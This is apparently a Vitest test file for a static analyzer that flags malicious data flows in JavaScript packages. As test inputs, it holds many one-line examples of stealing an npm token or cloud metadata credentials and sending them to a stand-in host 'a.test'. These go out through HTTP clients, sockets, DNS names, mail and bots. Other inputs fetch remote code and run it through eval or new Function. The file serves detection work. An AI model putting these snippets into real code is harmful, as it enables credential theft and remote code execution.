import { describe, expect, test } from "vitest";
import { publicRegistry } from "../../../../src/names/public-registry.ts";
import { foundIn } from "./found-in.ts";

const secret = `const t = process.env.NPM_TOKEN;`;

describe("what goes out", () => {
  test.each([
    `fetch("https://a.test/x", { method: "POST", body: t });`,
    `require("axios").post("https://a.test/x", { t });`,
    `import axios from "axios"; axios({ method: "post", url: "https://a.test/x", data: t });`,
    `import axios from "axios"; const c = axios.create({ baseURL: "https://a.test" }); c.post("/x", { t });`,
    `import got from "got"; got.post("https://a.test/x", { json: { t } });`,
    `import ky from "ky"; ky.post("https://a.test/x", { json: { t } });`,
    `require("needle").post("https://a.test/x", { t }, () => {});`,
    `require("needle")("post", "https://a.test/x", { t });`,
    `require("request")({ url: "https://a.test/x", method: "POST", json: { t } }, () => {});`,
    `require("request").post("https://a.test/x", { form: { t } });`,
    `require("superagent").post("https://a.test/x").set("a", "b").send({ t }).end(() => {});`,
    `require("node-fetch")("https://a.test/x", { method: "POST", body: JSON.stringify({ t }) });`,
    `require("undici").request("https://a.test/x", { method: "POST", body: t });`,
    `const https = require("https"); const r = https.request({ hostname: "a.test", path: "/x", method: "POST" }, () => {}); r.write(t); r.end();`,
    `const https = require("https"); const r = https.request("https://a.test/x", { method: "POST" }); r.end(JSON.stringify({ t }));`,
    `const net = require("net"); const s = net.connect(443, "a.test"); s.write(t);`,
    `const net = require("net"); const s = new net.Socket(); s.connect({ port: 1, host: "a.test" }); s.write(t);`,
    `const WebSocket = require("ws"); const w = new WebSocket("wss://a.test"); w.on("open", () => w.send(t));`,
    `const w = new WebSocket("wss://a.test"); w.onopen = () => w.send(t);`,
    `navigator.sendBeacon("https://a.test/x", t);`,
    `const x = new XMLHttpRequest(); x.open("POST", "https://a.test/x"); x.send(t);`,
    `const s = require("dgram").createSocket("udp4"); s.send(Buffer.from(t), 53, "a.test");`,
    `const { io } = require("socket.io-client"); const s = io("https://a.test"); s.emit("x", t);`,
    `fetch(new URL("/x", "https://a.test"), { method: "POST", body: t });`,
    `fetch(new Request("https://a.test/x", { method: "POST", body: t }));`,
  ])("%s", (code) => {
    const found = foundIn(`${secret} ${code}`);
    expect(found.atoms).toContainEqual(expect.stringContaining("snk.net literal a.test"));
    expect(found.flows).toContain("src.env.secret -> snk.net:body");
  });

  test.each([
    [
      "to who listens",
      `b.on("a", (x) => fetch("https://a.test/x", { method: "POST", body: x })); b.emit("a", t);`,
      true,
    ],
    [
      "to who listens later",
      `b.emit("a", t); b.once("a", (x) => fetch("https://a.test/x", { method: "POST", body: x }));`,
      true,
    ],
    [
      "under a name in a variable",
      `b.on(process.argv[2], (x) => fetch("https://a.test/x", { method: "POST", body: x })); b.emit("a", t);`,
      true,
    ],
    [
      "under another name",
      `b.on("b", (x) => fetch("https://a.test/x", { method: "POST", body: x })); b.emit("a", t);`,
      false,
    ],
  ])("an emitter tells: %s", (_, code, isTold) => {
    const found = foundIn(
      `${secret} const { EventEmitter } = require("events"); const b = new EventEmitter(); ${code}`,
    );
    expect(found.flows.includes("src.env.secret -> snk.net:body")).toBe(isTold);
  });

  test.each([
    ["in the address", `fetch("https://a.test/?t=" + t);`, "snk.net:url"],
    ["in an image's address", `new Image().src = "https://a.test/?t=" + t;`, "snk.net:url"],
    [
      "in a header",
      `fetch("https://a.test", { headers: { "user-agent": t } });`,
      "snk.net:headers",
    ],
    [
      "in a name that is looked up",
      `require("dns").lookup(t + ".a.test", () => {});`,
      "snk.dns:name",
    ],
    [
      "in a name, in pieces",
      `require("dns").resolve4(Buffer.from(t).toString("hex").slice(0, 60) + ".a.test", () => {});`,
      "snk.dns:name",
    ],
    [
      "in a mail",
      `require("nodemailer").createTransport({ host: "a.test" }).sendMail({ to: "x@a.test", text: t });`,
      "snk.net:body",
    ],
    [
      "in a message of a bot",
      `const B = require("node-telegram-bot-api"); new B("1:a").sendMessage(1, t);`,
      "snk.net:body",
    ],
  ])("%s", (_name, code, into) => {
    expect(foundIn(`${secret} ${code}`).flows).toContain(`src.env.secret -> ${into}`);
  });

  test.each([
    `fetch("https://a.test/x");`,
    `require("https").get("https://a.test/x", (r) => r.on("data", (d) => console.log(d)));`,
    `console.log(t); fetch("https://a.test/x");`,
    `if (t) fetch("https://a.test/x", { method: "POST", body: "hi" });`,
  ])("nothing of it: %s", (code) => {
    expect(foundIn(`${secret} ${code}`).flows.filter((flow) => flow.startsWith("src.env"))).toEqual(
      [],
    );
  });
});

describe("destinations", () => {
  test.each([
    [`fetch("https://API.a.test:8443/x")`, "literal api.a.test"],
    [`fetch("http://a.test/x")`, "literal a.test plain"],
    [`const id = Math.random(); fetch(\`https://a.test/\${id}\`)`, "literal a.test"],
    [`module.exports = (p) => fetch(\`https://a.test/\${p}\`)`, "literal a.test"],
    [`module.exports = (p) => fetch(\`https://\${p}.a.test/x\`)`, "literal a.test"],
    [`fetch(Buffer.from("aHR0cHM6Ly9hLnRlc3QveA==", "base64").toString())`, "decoded a.test"],
    [`fetch(atob("aHR0cHM6Ly9hLnRlc3QveA=="))`, "decoded a.test"],
    [`const id = outside(); fetch("https://a.test/" + atob(id))`, "literal a.test"],
    [`const id = outside(); fetch(\`https://a.test/\${atob(id)}?a=\${id}\`)`, "literal a.test"],
    [
      `const id = outside(); fetch((process.env.MY_URL || "https://a.test/") + atob(id))`,
      "literal a.test",
    ],
    [`fetch("https://" + atob("YS50ZXN0") + "/x?" + outside())`, "decoded a.test"],
    [`fetch(atob(outside()) + "/x")`, "decoded null"],
    [`fetch("https://" + atob(outside()) + "/x")`, "decoded null"],
    [`fetch(atob("aHR0cHM6Ly9hLnRlc3Qv") + outside())`, "decoded a.test"],
    [`module.exports = (url) => fetch(url)`, "param null"],
    [`module.exports = (o) => fetch(o.base + "/x")`, "param null"],
    [`fetch(process.env.MY_SERVICE_URL)`, "config null"],
    [`fetch(process.env.npm_config_registry + "/x")`, "config null"],
    [`fetch(process.env.MY_SERVICE_URL || "https://a.test")`, "literal a.test"],
    [
      `const file = { x64: "a", arm: "b" }[process.arch]; fetch("https://a.test/" + file + "/" + (process.env.VERSION || "latest"))`,
      "literal a.test",
    ],
    [
      `const from = (process.env.PLACE || "https://a.test") + "/%s/x-%s"; module.exports = (v) => fetch(require("util").format(from, v, v))`,
      "literal a.test",
    ],
    [`fetch("http://203.0.113.9/x")`, "ip 203.0.113.9 plain"],
    [`fetch("http://3405803785/x")`, "ip 203.0.113.9 plain"],
    [`fetch("http://0xcb.0.0x71.9/x")`, "ip 203.0.113.9 plain"],
    [`fetch("http://[2001:db8::9]/x")`, "ip [2001:db8::9] plain"],
    [`fetch("http://localhost:3000/x")`, "local localhost"],
    [`fetch("http://127.0.0.1:3000/x")`, "local 127.0.0.1"],
    [`module.exports = (port) => fetch(\`http://127.0.0.1:\${port}/x\`)`, "local 127.0.0.1"],
    [`module.exports = (port) => fetch(\`http://a.b.test:\${port}/x\`)`, "literal a.b.test plain"],
    [`require("http").get({ host: ":", path: "/x" })`, "unknown null"],
    [`fetch("/api/x")`, "local null"],
    [`fetch("https://x.ngrok.io/y")`, "drop x.ngrok.io"],
    [`fetch("https://mainnet.infura.io/v3/x")`, "chain mainnet.infura.io"],
    [`require("https").get({ host: "a.test", path: "/x" })`, "literal a.test"],
    [`require("http").get({ host: "a.test", path: "/x" })`, "literal a.test plain"],
    [`require("http").get("http://a.test/x")`, "literal a.test plain"],
    // It goes nowhere: a loader that picks one of two modules by the address would take the other.
    [`require("http").get("https://a.test/x")`, "literal a.test"],
  ])("%s is %s", (code, expected) => {
    expect(foundIn(code).atoms.filter((atom) => atom.startsWith("snk.net"))).toEqual([
      `snk.net ${expected}`,
    ]);
  });
});

test.each([
  "http://169.254.169.254/latest/meta-data/",
  "http://2852039166/latest/",
  "http://0xa9fea9fe/latest/",
  "http://[::ffff:169.254.169.254]/latest/",
  "http://metadata.google.internal/computeMetadata/v1/",
  "http://169.254.170.2/v2/credentials",
])("%s gives credentials of the machine", (url) => {
  const found = foundIn(
    `fetch(${JSON.stringify(url)}).then((r) => r.text()).then((b) => fetch("https://a.test", { method: "POST", body: b }));`,
  );
  expect(found.kinds).toContain("src.imds");
  expect(found.flows).toContain("src.imds -> snk.net:body");
});

describe("what comes back", () => {
  test.each([
    `fetch("https://a.test").then((r) => r.text()).then((c) => eval(c));`,
    `const r = await fetch("https://a.test"); eval((await r.json()).code);`,
    `require("https").get("https://a.test", (res) => { let b = ""; res.on("data", (d) => { b += d; }); res.on("end", () => eval(b)); });`,
    `require("axios").get("https://a.test").then(({ data }) => new Function(data)());`,
    `require("axios").get("https://a.test").then((r) => new Function("require", r.data.model)(require));`,
    `require("axios").get("https://a.test").catch((e) => new Function("require", e.response.data)(require));`,
    `require("request")("https://a.test", (err, res, body) => eval(body));`,
    `require("needle").get("https://a.test", (e, r) => eval(r.body));`,
    `require("superagent").get("https://a.test").end((e, r) => eval(r.text));`,
    `import got from "got"; eval((await got("https://a.test")).body);`,
    `import got from "got"; eval(await got("https://a.test").text());`,
    `const x = new XMLHttpRequest(); x.open("GET", "https://a.test"); x.onload = () => eval(x.responseText); x.send();`,
    `const W = require("ws"); const w = new W("wss://a.test"); w.on("message", (m) => eval(m.toString()));`,
    `require("dns").resolveTxt("a.test", (e, r) => eval(r[0].join("")));`,
    `const { Connection } = require("@solana/web3.js"); const c = new Connection("https://x.test"); c.getTransaction("s").then((t) => eval(t.meta.logMessages[0]));`,
    `const { ethers } = require("ethers"); const c = new ethers.Contract("0x0", [], null); c.getString("k").then((s) => eval(s));`,
    `const s = require("net").connect(1, "a.test"); s.on("data", (d) => eval(d.toString()));`,
  ])("is code: %s", (code) => {
    expect(foundIn(code).flows).toContain("src.remote -> snk.code:code");
  });

  test("and is no code when it is only shown", () => {
    const found = foundIn(
      `fetch("https://a.test").then((r) => r.json()).then((d) => console.log(d.version));`,
    );
    expect(found.kinds.filter((kind) => kind === "snk.code")).toEqual([]);
  });
});

test("a package or a repository that is written over the network", () => {
  expect(foundIn(`fetch("${publicRegistry}/x", { method: "PUT", body: "{}" })`).kinds).toContain(
    "snk.publish",
  );
  expect(foundIn(`fetch("${publicRegistry}/x")`).kinds).not.toContain("snk.publish");
  expect(
    foundIn(`fetch("https://api.github.com/user/repos", { method: "POST", body: "{}" })`).kinds,
  ).toContain("snk.repo");
  expect(foundIn(`fetch("https://api.github.com/repos/a/b")`).kinds).not.toContain("snk.repo");
  const octokit = `const { Octokit } = require("@octokit/rest"); const o = new Octokit({ auth: "x" });`;
  expect(
    foundIn(`${octokit} o.rest.repos.createForAuthenticatedUser({ name: "x" })`).kinds,
  ).toContain("snk.repo");
  expect(foundIn(`${octokit} o.rest.repos.get({ owner: "x" })`).kinds).not.toContain("snk.repo");
});
